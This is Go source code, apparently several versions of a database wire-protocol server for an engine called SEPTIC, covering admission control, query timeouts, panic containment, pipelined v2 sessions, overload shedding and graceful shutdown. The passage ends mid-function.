func (s *Server) dispatch(req *Request, app string) *Response {
	if s.queryTimeout <= 0 {
		return s.handle(context.Background(), req, app)
	}
	ctx, cancel := context.WithTimeout(context.Background(), s.queryTimeout)
	defer cancel()
	ch := make(chan *Response, 1)
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		ch <- s.handle(ctx, req, app)
	}()
	select {
	case resp := <-ch:
		return resp
	case <-ctx.Done():
		return &Response{Error: fmt.Sprintf("query timeout after %s", s.queryTimeout)}
	}
}

// handle executes one request against the engine. It is panic-contained:
// a fault that unwinds out of the engine (or a hook whose own
// containment is disabled) becomes a structured error response plus a
// logged incident — one query fails, the server and every other session
// keep going.
// handleHello answers one handshake frame and, on success, binds the
// session to the declared application. Version skew is handled the
// conservative way: a client NEWER than the server is refused (it may
// rely on semantics this server lacks) and the session stays unbound —
// but alive, so the client can retry with an older hello or proceed
// as a legacy session in the default domain.
func (s *Server) handleHello(h *Hello, app *string) *Response {
	if h.Version > HelloVersion {
		return &Response{
			Error: fmt.Sprintf("hello version %d unsupported (server speaks ≤ %d)",
				h.Version, HelloVersion),
			Hello: &HelloAck{Version: HelloVersion},
		}
	}
	*app = h.App
	return &Response{Hello: &HelloAck{
		Version: HelloVersion,
		Domain:  s.resolveDomain(h.App),
	}}
}

func (s *Server) handle(ctx context.Context, req *Request, app string) (resp *Response) {
	defer func() {
		if r := recover(); r != nil {
			s.panics.Add(1)
			log.Printf("wire: contained panic serving query: %v\n%s", r, debug.Stack())
			resp = &Response{Error: fmt.Sprintf("internal error: query failed: %v", r)}
		}
	}()
	var (
		res *engine.Result
		err error
	)
	if len(req.Args) > 0 {
		args := make([]engine.Value, len(req.Args))
		for i, a := range req.Args {
			args[i] = FromWire(a)
		}
		res, err = s.db.ExecAppContext(ctx, app, req.Query, args...)
	} else {
		res, err = s.db.ExecAppContext(ctx, app, req.Query)
	}
	if err != nil {
		return &Response{
			Error:   err.Error(),
			Blocked: errors.Is(err, engine.ErrQueryBlocked),
		}
	}
	resp = &Response{
		Columns:      res.Columns,
		Affected:     res.Affected,
		LastInsertID: res.LastInsertID,
	}
	resp.Rows = make([][]WireValue, len(res.Rows))
	for i, row := range res.Rows {
		wr := make([]WireValue, len(row))
		for j, v := range row {
			wr[j] = ToWire(v)
		}
		resp.Rows[i] = wr
	}
	return resp
}

// forget drops conn from the tracked set and closes it.
func (s *Server) forget(conn net.Conn) {
	s.mu.Lock()
	delete(s.conns, conn)
	s.mu.Unlock()
	_ = conn.Close()
}

func (s *Server) isClosed() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.closed
}

// Panics returns the number of contained serving panics (incidents).
func (s *Server) Panics() int64 { return s.panics.Load() }

// Refused returns the number of connections turned away by admission
// control.
func (s *Server) Refused() int64 { return s.refused.Load() }

// beginClose transitions to closed exactly once and returns the
// listener plus whether this call did the transition.
func (s *Server) beginClose(interrupt bool) (net.Listener, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil, false
	}
	s.closed = true
	s.draining.Store(true)
	close(s.done)
	if interrupt {
		// Wake sessions blocked waiting for their next request: an
		// immediate read deadline fails the pending (idle) read while a
		// query already executing proceeds to answer and then exits the
		// loop via the draining flag.
		now := time.Now()
		for conn := range s.conns {
			_ = conn.SetReadDeadline(now)
		}
	} else {
		for conn := range s.conns {
			_ = conn.Close()
		}
	}
	return s.listener, true
}

// Shutdown stops the server gracefully: stop accepting, let in-flight
// queries finish and answer, then — if ctx expires first — force-close
// whatever is left. Idle sessions are disconnected immediately.
func (s *Server) Shutdown(ctx context.Context) error {
	ln, first := s.beginClose(true)
	if !first {
		return nil
	}
	var lnErr error
	if ln != nil {
		lnErr = ln.Close()
	}
	drained := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(drained)
	}()
	select {
	case <-drained:
		return lnErr
	case <-ctx.Done():
	}
	// Drain deadline passed: force-close surviving connections. Their
	// serving goroutines fail out of the next read/write immediately;
	// abandoned query watchdog strays are given a short grace.
	s.mu.Lock()
	for conn := range s.conns {
		_ = conn.Close()
	}
	s.mu.Unlock()
	select {
	case <-drained:
	case <-time.After(time.Second):
	}
	return ctx.Err()
}

// Close stops the server immediately: stop accepting, drop live
// connections and wait for the serving goroutines to exit.
func (s *Server) Close() error {
	ln, first := s.beginClose(false)
	if !first {
		return nil
	}
	var err error
	if ln != nil {
		err = ln.Close()
	}
	s.wg.Wait()
	return err
}
