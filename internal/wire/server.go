package wire

import (
	"errors"
	"fmt"
	"net"
	"sync"

	"github.com/septic-db/septic/internal/engine"
)

// Server serves the wire protocol for one database instance. SEPTIC, if
// installed, is already inside the engine — the server is protection-
// agnostic, exactly like a stock MySQL front end.
type Server struct {
	db *engine.DB

	mu       sync.Mutex
	listener net.Listener
	conns    map[net.Conn]struct{}
	closed   bool
	wg       sync.WaitGroup
}

// NewServer wraps a database in a protocol server.
func NewServer(db *engine.DB) *Server {
	return &Server{db: db, conns: make(map[net.Conn]struct{})}
}

// Listen binds addr ("127.0.0.1:0" for an ephemeral test port) and
// starts accepting connections in a background goroutine. It returns the
// bound address.
func (s *Server) Listen(addr string) (string, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", fmt.Errorf("listen %s: %w", addr, err)
	}
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		_ = ln.Close()
		return "", errors.New("server already closed")
	}
	s.listener = ln
	s.mu.Unlock()

	s.wg.Add(1)
	go s.acceptLoop(ln)
	return ln.Addr().String(), nil
}

func (s *Server) acceptLoop(ln net.Listener) {
	defer s.wg.Done()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return // listener closed
		}
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			_ = conn.Close()
			return
		}
		s.conns[conn] = struct{}{}
		s.mu.Unlock()

		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			s.serveConn(conn)
		}()
	}
}

// serveConn handles one client session: a synchronous request/response
// loop until the client disconnects.
func (s *Server) serveConn(conn net.Conn) {
	defer func() {
		s.mu.Lock()
		delete(s.conns, conn)
		s.mu.Unlock()
		_ = conn.Close()
	}()
	for {
		var req Request
		if err := readFrame(conn, &req); err != nil {
			return // EOF or protocol error: drop the session
		}
		resp := s.handle(&req)
		if err := writeFrame(conn, resp); err != nil {
			return
		}
	}
}

// handle executes one request against the engine.
func (s *Server) handle(req *Request) *Response {
	var (
		res *engine.Result
		err error
	)
	if len(req.Args) > 0 {
		args := make([]engine.Value, len(req.Args))
		for i, a := range req.Args {
			args[i] = FromWire(a)
		}
		res, err = s.db.ExecArgs(req.Query, args...)
	} else {
		res, err = s.db.Exec(req.Query)
	}
	if err != nil {
		return &Response{
			Error:   err.Error(),
			Blocked: errors.Is(err, engine.ErrQueryBlocked),
		}
	}
	resp := &Response{
		Columns:      res.Columns,
		Affected:     res.Affected,
		LastInsertID: res.LastInsertID,
	}
	resp.Rows = make([][]WireValue, len(res.Rows))
	for i, row := range res.Rows {
		wr := make([]WireValue, len(row))
		for j, v := range row {
			wr[j] = ToWire(v)
		}
		resp.Rows[i] = wr
	}
	return resp
}

// Close stops accepting, drops live connections and waits for the
// serving goroutines to exit.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	ln := s.listener
	for conn := range s.conns {
		_ = conn.Close()
	}
	s.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	s.wg.Wait()
	return err
}
