package wire

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"log"
	"net"
	"runtime/debug"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/overload"
)

// ErrServerBusy is the admission-control refusal: the server is at its
// connection limit and the accept backlog is full (or the wait timed
// out). Clients see it from Exec on a refused connection.
var ErrServerBusy = errors.New("server busy: connection limit reached")

// Defaults for the v2 pipelined serving path.
const (
	// DefaultPipelineWorkers is the per-connection worker pool size for
	// pipelined (v2) sessions.
	DefaultPipelineWorkers = 4
	// DefaultMaxInFlight bounds requests outstanding inside the server
	// for one pipelined session (queued + executing + unwritten).
	DefaultMaxInFlight = 64
)

// Server serves the wire protocol for one database instance. SEPTIC, if
// installed, is already inside the engine — the server is protection-
// agnostic, exactly like a stock MySQL front end.
//
// The zero configuration (NewServer(db) with no options) behaves like a
// lab server: no deadlines, no limits. Production deployments layer on
// the fail-safe options: per-connection idle/read/write deadlines, a
// per-query execution timeout, a max-connections admission gate with a
// bounded backlog, and graceful drain via Shutdown. Every query is
// panic-contained — a crash in the engine or a hook that escapes the
// guard's own containment is converted into an error response for that
// query, never a server crash.
//
// Sessions start on the synchronous JSON protocol. A version-2 HELLO
// switches the connection to the pipelined binary transport: a
// per-connection worker pool executes up to WithPipelineWorkers queries
// concurrently (bounded overall by WithMaxInFlight), and a dedicated
// writer coalesces completed responses — in completion order, not
// submission order — into batched flushes.
type Server struct {
	db *engine.DB

	// resolveDomain maps a HELLO-declared app name to the protection
	// domain the session will be reported as bound to (the HelloAck);
	// nil uses defaultDomainResolver. The mapping is informational for
	// the client — routing itself happens inside the guard.
	resolveDomain func(app string) string

	idleTimeout  time.Duration
	readTimeout  time.Duration
	writeTimeout time.Duration
	queryTimeout time.Duration
	maxConns     int
	backlog      int
	backlogWait  time.Duration

	// helloLimit is the newest protocol version this server accepts
	// (HelloVersion unless lowered by WithHelloVersionLimit, which
	// tests use to stand up a v1-only server).
	helloLimit      int
	pipelineWorkers int
	maxInFlight     int

	// replHandler, when set, receives connections whose HELLO asked for
	// a replication session (Hello.Repl). The handler owns the
	// connection until it returns — the serving loop has already written
	// the acknowledgement and will close the conn afterwards. Nil means
	// replication hellos are refused with a clean error ack.
	replHandler func(conn net.Conn)

	// admission, when set, is the latency-aware admission controller on
	// the query hot path; execGate (sized admission.Capacity()) is the
	// bounded execution stage whose wait is the sojourn the control law
	// consumes. Both are nil unless WithAdmission armed them.
	admission *overload.Admission
	execGate  chan struct{}
	// resolveControls maps a session's app binding to its protection
	// domain's overload controls (quota + per-domain shed accounting);
	// nil disables per-domain overload control.
	resolveControls func(app string) *overload.Controls
	// shed counts typed shed responses written (admission + quota +
	// drain), all sessions.
	shed atomic.Int64

	// sem holds one token per admitted connection; nil = unlimited.
	sem     chan struct{}
	waiters atomic.Int64

	// done is closed once, when Close/Shutdown begins, releasing
	// admission waiters immediately.
	done chan struct{}
	// draining makes serving loops stop picking up new requests.
	draining atomic.Bool

	panics   atomic.Int64
	refused  atomic.Int64
	inflight atomic.Int64 // v2 requests inside the server, all sessions

	// obsHub enables front-end instrumentation (nil = off). The hot
	// counter handles are resolved once in NewServer; they are nil-safe,
	// so the serving loops call them unconditionally.
	obsHub        *obs.Hub
	obsConns      *obs.Counter // connections accepted
	obsQueries    *obs.Counter // requests answered (JSON path + hellos)
	obsV2Sessions *obs.Counter // sessions upgraded to the v2 transport
	obsV2In       *obs.Counter // v2 query frames received
	obsV2Out      *obs.Counter // v2 result frames written
	obsV2Flushes  *obs.Counter // v2 coalesced flushes (Out/Flushes = avg batch)
	obsV2BytesIn  *obs.Counter // v2 frame bytes received
	obsV2BytesOut *obs.Counter // v2 frame bytes written

	mu       sync.Mutex
	listener net.Listener
	conns    map[net.Conn]struct{}
	closed   bool
	wg       sync.WaitGroup
}

// ServerOption configures a Server at construction time.
type ServerOption func(*Server)

// WithIdleTimeout disconnects a session that sends no request for d: a
// client holding a connection open but sending nothing (slow-loris
// style) is cut loose instead of pinning a goroutine and an admission
// slot forever. Zero disables the timeout.
func WithIdleTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.idleTimeout = d }
}

// WithReadTimeout bounds receiving the remainder of a request frame
// once its header has arrived. It is the torn-frame guard: a client
// that starts a frame and stalls is disconnected after d rather than
// holding the session half-read. Zero leaves the idle deadline (if any)
// in force for the whole frame.
func WithReadTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.readTimeout = d }
}

// WithWriteTimeout bounds each response write; a client that stops
// draining its receive window cannot wedge the serving goroutine.
func WithWriteTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.writeTimeout = d }
}

// WithQueryTimeout bounds one query's execution. The deadline is
// enforced cooperatively — the engine checks cancellation between
// pipeline stages — with a watchdog response: if the query overruns, the
// client immediately receives a timeout error and the overrunning
// execution is abandoned to finish (and be discarded) on its own. Zero
// disables the timeout and the per-query watchdog goroutine entirely.
func WithQueryTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.queryTimeout = d }
}

// WithMaxConns caps concurrently served connections at n (0 =
// unlimited). Connections beyond the cap wait in a bounded backlog (see
// WithAcceptBacklog); beyond that they are refused with a clean
// "server busy" wire error instead of queueing unboundedly.
func WithMaxConns(n int) ServerOption {
	return func(s *Server) { s.maxConns = n }
}

// WithAcceptBacklog sets how many over-limit connections may wait for a
// serving slot (n) and for how long (wait) before being refused. The
// defaults with a max-conns gate are n = max-conns and wait = 1s.
func WithAcceptBacklog(n int, wait time.Duration) ServerOption {
	return func(s *Server) { s.backlog = n; s.backlogWait = wait }
}

// WithHelloVersionLimit lowers the newest protocol version the server
// accepts (and advertises) to v. WithHelloVersionLimit(1) turns the
// server into a pre-pipelining build for interop tests: v2 clients get
// refused, downgrade, and proceed synchronously. Values outside
// [1, HelloVersion] are clamped.
func WithHelloVersionLimit(v int) ServerOption {
	return func(s *Server) {
		if v < helloVersionLegacy {
			v = helloVersionLegacy
		}
		if v > HelloVersion {
			v = HelloVersion
		}
		s.helloLimit = v
	}
}

// WithPipelineWorkers sets the per-connection worker pool size for
// pipelined (v2) sessions: up to n queries from one connection execute
// concurrently. n < 1 means DefaultPipelineWorkers.
func WithPipelineWorkers(n int) ServerOption {
	return func(s *Server) { s.pipelineWorkers = n }
}

// WithMaxInFlight bounds the requests outstanding inside the server for
// one pipelined session — queued for a worker, executing, or completed
// but not yet written. Reads beyond the bound apply natural
// backpressure (the reader blocks, the client's window fills). n < 1
// means DefaultMaxInFlight; n is clamped up to the worker pool size.
func WithMaxInFlight(n int) ServerOption {
	return func(s *Server) { s.maxInFlight = n }
}

// WithReplHandler enables replication sessions: a HELLO with the Repl
// flag (and protocol version 2) hands the connection — acknowledged,
// deadlines cleared — to h, which speaks the replication frame protocol
// on it until the session ends. Without this option replication hellos
// are refused in the ack, so a replica pointed at a non-primary server
// fails with a typed error instead of hanging. septicd installs the
// repl.Primary here when -repl-listen names the serving address.
func WithReplHandler(h func(conn net.Conn)) ServerOption {
	return func(s *Server) { s.replHandler = h }
}

// WithDomainResolver installs the app→domain mapping the server answers
// HELLO handshakes with: given the declared application name, it
// returns the protection domain name the session is bound to. septicd
// wires this to the guard's domain registry so the acknowledgement
// reflects reality (an unknown app resolves to "default"). Without a
// resolver the server echoes the declared app as the domain, or
// "default" when none was declared.
func WithDomainResolver(resolve func(app string) string) ServerOption {
	return func(s *Server) { s.resolveDomain = resolve }
}

// defaultDomainResolver is the no-registry fallback.
func defaultDomainResolver(app string) string {
	if app == "" {
		return "default"
	}
	return app
}

// WithAdmission installs a latency-aware admission controller on the
// query hot path. Admitted requests execute inside a bounded gate of
// admission.Capacity() slots; the time a request waits for a slot (plus,
// on pipelined sessions, its time in the worker queue) is the sojourn
// fed back to the controller. Arrivals past the queue-delay target are
// answered with a typed shed response carrying a retry-after hint — the
// session stays alive and nothing is ever silently dropped.
func WithAdmission(a *overload.Admission) ServerOption {
	return func(s *Server) { s.admission = a }
}

// WithOverloadControls installs the per-domain overload resolver: a
// session resolves its app binding to the domain's Controls at bind
// time (the default domain before any HELLO), and every request is
// charged against that domain's quota before it may occupy a shared
// queue slot — so a flooded tenant degrades alone. septicd wires this
// to the guard's domain registry.
func WithOverloadControls(resolve func(app string) *overload.Controls) ServerOption {
	return func(s *Server) { s.resolveControls = resolve }
}

// WithServerObs installs an observability hub on the front end:
// accepted-connection and answered-request counters, plus gauges for
// tracked sessions, admission backlog occupancy, refusals, contained
// panics, drain state, and the v2 transport (sessions, frames in/out,
// coalesced flushes, frame bytes, in-flight depth).
func WithServerObs(h *obs.Hub) ServerOption {
	return func(s *Server) { s.obsHub = h }
}

// NewServer wraps a database in a protocol server.
func NewServer(db *engine.DB, opts ...ServerOption) *Server {
	s := &Server{
		db:          db,
		conns:       make(map[net.Conn]struct{}),
		done:        make(chan struct{}),
		backlog:     -1, // "unset": defaulted from maxConns below
		backlogWait: time.Second,
		helloLimit:  HelloVersion,
	}
	for _, o := range opts {
		o(s)
	}
	if s.resolveDomain == nil {
		s.resolveDomain = defaultDomainResolver
	}
	if s.pipelineWorkers < 1 {
		s.pipelineWorkers = DefaultPipelineWorkers
	}
	if s.maxInFlight < 1 {
		s.maxInFlight = DefaultMaxInFlight
	}
	if s.maxInFlight < s.pipelineWorkers {
		s.maxInFlight = s.pipelineWorkers
	}
	if s.maxConns > 0 {
		s.sem = make(chan struct{}, s.maxConns)
		if s.backlog < 0 {
			s.backlog = s.maxConns
		}
	}
	if s.admission != nil {
		s.execGate = make(chan struct{}, s.admission.Capacity())
	}
	if s.obsHub != nil {
		m := s.obsHub.Metrics
		s.obsConns = m.Counter("wire.conns.accepted")
		s.obsQueries = m.Counter("wire.queries.answered")
		s.obsV2Sessions = m.Counter("wire.v2.sessions")
		s.obsV2In = m.Counter("wire.v2.frames.in")
		s.obsV2Out = m.Counter("wire.v2.frames.out")
		s.obsV2Flushes = m.Counter("wire.v2.flushes")
		s.obsV2BytesIn = m.Counter("wire.v2.bytes.in")
		s.obsV2BytesOut = m.Counter("wire.v2.bytes.out")
		m.GaugeFunc("wire.v2.inflight", s.inflight.Load)
		m.GaugeFunc("wire.conns.tracked", func() int64 {
			s.mu.Lock()
			defer s.mu.Unlock()
			return int64(len(s.conns))
		})
		m.GaugeFunc("wire.backlog.waiters", s.waiters.Load)
		m.GaugeFunc("wire.conns.refused", s.refused.Load)
		m.GaugeFunc("wire.panics", s.panics.Load)
		m.GaugeFunc("wire.draining", func() int64 {
			if s.draining.Load() {
				return 1
			}
			return 0
		})
		m.GaugeFunc("wire.overload.sheds", s.shed.Load)
		if s.admission != nil {
			m.GaugeFunc("wire.overload.queue_depth", s.admission.Depth)
			m.GaugeFunc("wire.overload.shedding", func() int64 {
				if s.admission.Shedding() {
					return 1
				}
				return 0
			})
		}
	}
	return s
}

// Listen binds addr ("127.0.0.1:0" for an ephemeral test port) and
// starts accepting connections in a background goroutine. It returns the
// bound address.
func (s *Server) Listen(addr string) (string, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", fmt.Errorf("listen %s: %w", addr, err)
	}
	if err := s.Serve(ln); err != nil {
		_ = ln.Close()
		return "", err
	}
	return ln.Addr().String(), nil
}

// Serve accepts connections from ln in a background goroutine. Tests
// and chaos harnesses use it to serve through an instrumented listener.
func (s *Server) Serve(ln net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return errors.New("server already closed")
	}
	s.listener = ln
	s.mu.Unlock()

	s.wg.Add(1)
	go s.acceptLoop(ln)
	return nil
}

// acceptLoop accepts until the listener is closed. A transient accept
// failure (ECONNABORTED, EMFILE under fd pressure, an injected fault)
// is retried with capped exponential backoff instead of killing the
// server; only net.ErrClosed — shutdown — ends the loop.
func (s *Server) acceptLoop(ln net.Listener) {
	defer s.wg.Done()
	var backoff time.Duration
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) || s.isClosed() {
				return
			}
			if backoff == 0 {
				backoff = 5 * time.Millisecond
			} else if backoff *= 2; backoff > time.Second {
				backoff = time.Second
			}
			select {
			case <-time.After(backoff):
			case <-s.done:
				return
			}
			continue
		}
		backoff = 0
		s.obsConns.Inc()
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			_ = conn.Close()
			return
		}
		s.conns[conn] = struct{}{}
		s.wg.Add(1)
		s.mu.Unlock()

		go func() {
			defer s.wg.Done()
			s.admitAndServe(conn)
		}()
	}
}

// admitAndServe passes the connection through the admission gate, then
// serves it. Refused connections receive one "server busy" response
// frame so the client fails cleanly instead of seeing a bare hangup.
func (s *Server) admitAndServe(conn net.Conn) {
	defer s.forget(conn)
	if s.sem != nil {
		select {
		case s.sem <- struct{}{}:
		default:
			// No free slot: join the bounded backlog or be refused.
			if int(s.waiters.Add(1)) > s.backlog {
				s.waiters.Add(-1)
				s.refuse(conn)
				return
			}
			timer := time.NewTimer(s.backlogWait)
			select {
			case s.sem <- struct{}{}:
				timer.Stop()
				s.waiters.Add(-1)
			case <-timer.C:
				s.waiters.Add(-1)
				s.refuse(conn)
				return
			case <-s.done:
				timer.Stop()
				s.waiters.Add(-1)
				return
			}
		}
		defer func() { <-s.sem }()
	}
	s.serveConn(conn)
}

// refuse answers one admission rejection and hangs up. The busy frame
// carries the backlog wait as a retry-after hint: a herd of refused
// clients redialing immediately is exactly what exhausted the slots, so
// the hint (jittered client-side) spreads the retries over at least one
// backlog interval.
func (s *Server) refuse(conn net.Conn) {
	s.refused.Add(1)
	_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
	_ = writeFrame(conn, &Response{
		Error:        ErrServerBusy.Error(),
		Busy:         true,
		RetryAfterMS: retryAfterMS(s.backlogWait),
	})
}

// Shed response texts. Clients match on the Shed flag, never on these
// strings.
const (
	shedMsgOverload = "server overloaded: request shed, retry after backoff"
	shedMsgQuota    = "domain quota exceeded: request shed, retry after backoff"
	shedMsgDraining = "server draining: request not executed"
)

// shedResponse builds one typed overload rejection. The request it
// answers was never executed, so the client may retry it safely after
// the hint.
func (s *Server) shedResponse(msg string, retryAfter time.Duration) *Response {
	s.shed.Add(1)
	resp := getResponse()
	resp.Error = msg
	resp.Shed = true
	resp.RetryAfterMS = retryAfterMS(retryAfter)
	return resp
}

// retryAfterMS converts a hint to wire milliseconds, rounding a
// sub-millisecond hint up so a hint is never silently lost.
func retryAfterMS(d time.Duration) int64 {
	if d <= 0 {
		return 0
	}
	if ms := d.Milliseconds(); ms > 0 {
		return ms
	}
	return 1
}

// serveConn handles one client session: a synchronous request/response
// loop until the client disconnects, a deadline fires, the server
// drains — or an accepted v2 HELLO upgrades the session to the
// pipelined binary transport (serveConnV2). The session's domain
// binding is plain per-goroutine state: app is empty until a Hello
// frame binds it.
func (s *Server) serveConn(conn net.Conn) {
	var app string
	ctl := s.controlsFor(app)
	for {
		req := getRequest()
		if err := s.readRequest(conn, req); err != nil {
			putRequest(req)
			return // EOF, deadline or protocol error: drop the session
		}
		var resp *Response
		var upgrade, repl bool
		if req.Hello != nil {
			if req.Hello.Repl {
				resp, repl = s.handleReplHello(req.Hello)
				upgrade = false
			} else {
				resp, upgrade = s.handleHello(req.Hello, &app)
				ctl = s.controlsFor(app) // re-resolve for the bound domain
			}
			putRequest(req)
		} else {
			resp = s.dispatchAdmitted(req, app, ctl) // owns (and recycles) req
		}
		if s.writeTimeout > 0 {
			_ = conn.SetWriteDeadline(time.Now().Add(s.writeTimeout))
		}
		err := writeFrame(conn, resp)
		putResponse(resp)
		if err != nil {
			return
		}
		s.obsQueries.Inc()
		if repl {
			// The ack we just wrote was the session's last query-protocol
			// frame: the replication handler owns the conn from here. The
			// serving deadlines are cleared — replication paces itself.
			_ = conn.SetReadDeadline(time.Time{})
			_ = conn.SetWriteDeadline(time.Time{})
			s.replHandler(conn)
			return
		}
		if upgrade {
			// The ack we just wrote was the session's last JSON frame.
			s.serveConnV2(conn, app, ctl)
			return
		}
		if s.draining.Load() {
			return // drain: the in-flight query was answered; end the session
		}
	}
}

// controlsFor resolves the overload controls for a session's app
// binding; nil when per-domain control is not configured.
func (s *Server) controlsFor(app string) *overload.Controls {
	if s.resolveControls == nil {
		return nil
	}
	return s.resolveControls(app)
}

// dispatchAdmitted runs the overload checks in front of dispatch, in
// order: domain quota first (a flooded tenant is rejected before it can
// occupy a shared queue slot), then the shared admission bound, then
// the bounded execution gate whose wait is the measured sojourn. With
// no overload control configured it is exactly dispatch.
func (s *Server) dispatchAdmitted(req *Request, app string, ctl *overload.Controls) *Response {
	var quota *overload.Quota
	if ctl != nil {
		quota = ctl.Quota
	}
	if quota != nil {
		if ok, ra := quota.Acquire(); !ok {
			putRequest(req)
			return s.shedResponse(shedMsgQuota, ra)
		}
	}
	if s.admission == nil {
		resp := s.dispatch(req, app)
		quota.Release()
		return resp
	}
	if ok, ra := s.admission.Arrive(); !ok {
		quota.Release()
		ctl.NoteShed()
		putRequest(req)
		return s.shedResponse(shedMsgOverload, ra)
	}
	return s.dispatchGated(req, app, time.Now(), quota)
}

// dispatchGated executes one admission-admitted request inside the
// bounded execution gate, completing the accounting begun at Arrive:
// the gate wait since arrival is the sojourn, the rest is service time.
func (s *Server) dispatchGated(req *Request, app string, arrival time.Time, quota *overload.Quota) *Response {
	select {
	case s.execGate <- struct{}{}:
	case <-s.done:
		s.admission.Cancel()
		quota.Release()
		putRequest(req)
		return s.shedResponse(shedMsgDraining, time.Second)
	}
	sojourn := time.Since(arrival)
	resp := s.dispatch(req, app)
	<-s.execGate
	s.admission.Done(sojourn, time.Since(arrival)-sojourn)
	quota.Release()
	return resp
}

// v2Job is one decoded query frame on its way from the reader to a
// worker; v2Result pairs the completed response with the sequence
// number it answers, on its way from a worker to the writer. arrival
// and quota carry the overload accounting opened in readV2Loop (arrival
// is zero when admission is unarmed).
type v2Job struct {
	seq     uint64
	req     *Request
	arrival time.Time
	quota   *overload.Quota
}

type v2Result struct {
	seq  uint64
	resp *Response
}

// serveConnV2 runs the pipelined binary transport on an upgraded
// session. Three roles share the connection:
//
//   - the serving goroutine itself reads query frames and queues them —
//     when the session's in-flight bound is reached it blocks, which is
//     the backpressure a misbehaving client feels;
//   - a fixed pool of workers executes queries concurrently (each with
//     the same watchdog/panic containment as the synchronous path) and
//     emits completed responses in completion order;
//   - one writer drains completed responses, encoding them back-to-back
//     into a buffered writer and flushing once per drained batch — the
//     write-coalescing that turns a burst of small responses into one
//     syscall.
//
// Teardown is ordered: reader stops (EOF, deadline, drain, protocol
// error) → jobs closes → workers finish and exit → out closes → writer
// flushes what remains and exits. The writer never blocks teardown on a
// dead peer: after a write error it closes the conn and keeps draining
// results to the pool.
func (s *Server) serveConnV2(conn net.Conn, app string, ctl *overload.Controls) {
	s.obsV2Sessions.Inc()
	workers := s.pipelineWorkers
	in := make(chan v2Job, s.maxInFlight-workers)
	out := make(chan v2Result, s.maxInFlight)

	var wpool sync.WaitGroup
	for i := 0; i < workers; i++ {
		wpool.Add(1)
		go func() {
			defer wpool.Done()
			for j := range in {
				var resp *Response // dispatch owns and recycles j.req
				if s.admission != nil {
					resp = s.dispatchGated(j.req, app, j.arrival, j.quota)
				} else {
					resp = s.dispatch(j.req, app)
					j.quota.Release()
				}
				out <- v2Result{seq: j.seq, resp: resp}
			}
		}()
	}

	writerDone := make(chan struct{})
	go func() {
		defer close(writerDone)
		bw := bufio.NewWriterSize(conn, v2BufSize)
		buf := getEncBuf()
		defer putEncBuf(buf)
		failed := false
		for r := range out {
			if s.writeTimeout > 0 {
				_ = conn.SetWriteDeadline(time.Now().Add(s.writeTimeout))
			}
		drain:
			for {
				if !failed {
					failed = !s.writeV2Result(conn, bw, buf, r)
				}
				putResponse(r.resp)
				s.inflight.Add(-1)
				select {
				case nr, ok := <-out:
					if !ok {
						break drain
					}
					r = nr
				default:
					break drain
				}
			}
			if !failed {
				if err := bw.Flush(); err != nil {
					failed = true
					_ = conn.Close()
				} else {
					s.obsV2Flushes.Inc()
				}
			}
		}
	}()

	s.readV2Loop(conn, in, out, ctl)

	close(in)
	wpool.Wait()
	close(out)
	<-writerDone
}

// writeV2Result encodes one response frame into the writer's buffer.
// It reports false — after closing the conn — on encode or write
// failure; the caller then discards the rest of the session's output.
func (s *Server) writeV2Result(conn net.Conn, bw *bufio.Writer, buf *encBuf, r v2Result) bool {
	frame, err := appendResponseFrame(buf.b[:0], r.seq, r.resp)
	buf.b = frame
	if err == nil {
		_, err = bw.Write(frame)
	}
	if err != nil {
		_ = conn.Close()
		return false
	}
	s.obsV2Out.Inc()
	s.obsV2BytesOut.Add(int64(len(frame)))
	return true
}

// readV2Loop receives query frames until the session ends, queueing
// each for the worker pool. Any protocol violation — a non-query frame,
// a malformed body — ends the session: the framing is length-delimited
// so the stream is technically recoverable, but a peer that sends
// garbage is not a peer to keep serving.
//
// Overload checks run here, at arrival, so shed work never occupies a
// queue slot: a quota- or admission-rejected frame is answered with a
// typed shed result pushed straight to the writer (the shed result
// joins the session's in-flight accounting like any other response).
func (s *Server) readV2Loop(conn net.Conn, in chan<- v2Job, out chan<- v2Result, ctl *overload.Controls) {
	br := bufio.NewReaderSize(conn, v2BufSize)
	buf := getEncBuf()
	defer putEncBuf(buf)
	for {
		if s.draining.Load() {
			return
		}
		if s.idleTimeout > 0 {
			_ = conn.SetReadDeadline(time.Now().Add(s.idleTimeout))
		}
		n, err := readFrameHeader(br)
		if err != nil {
			return
		}
		if s.readTimeout > 0 {
			_ = conn.SetReadDeadline(time.Now().Add(s.readTimeout))
		}
		seq, typ, body, err := readBinaryFramePayload(br, n, buf)
		if err != nil || typ != frameQuery {
			return
		}
		req := getRequest()
		if err := decodeRequestBody(body, req); err != nil {
			putRequest(req)
			return
		}
		s.obsV2In.Inc()
		s.obsV2BytesIn.Add(int64(n) + 4)
		var quota *overload.Quota
		if ctl != nil {
			quota = ctl.Quota
		}
		if quota != nil {
			if ok, ra := quota.Acquire(); !ok {
				putRequest(req)
				s.inflight.Add(1)
				out <- v2Result{seq: seq, resp: s.shedResponse(shedMsgQuota, ra)}
				continue
			}
		}
		var arrival time.Time
		if s.admission != nil {
			if ok, ra := s.admission.Arrive(); !ok {
				quota.Release()
				ctl.NoteShed()
